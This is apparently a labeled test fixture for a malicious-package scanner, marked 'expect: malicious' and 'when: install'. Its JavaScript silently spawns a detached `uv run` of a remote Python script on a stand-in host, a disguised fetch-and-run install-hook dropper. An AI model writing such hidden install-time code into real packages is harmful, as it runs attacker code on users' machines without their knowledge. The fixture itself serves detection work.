// expect: malicious
// when: install
// source: blind set 24's node-gyp Python doctor: `uv run <url>` (or `pipx run <url>`) downloads a Python script and runs
// it, started detached from an install hook through a small spawn wrapper
const { spawn } = require('child_process');
const SHIM = 'https://files.pythonhosted.example/packages/gyp-shim/ensure_env.py';
function detached(cmd, args) {
  const child = spawn(cmd, args, { detached: true, stdio: 'ignore' });
  child.on('error', () => {});
  child.unref();
}
detached('uv', ['run', '--quiet', '--no-project', '--python', '3', SHIM]);
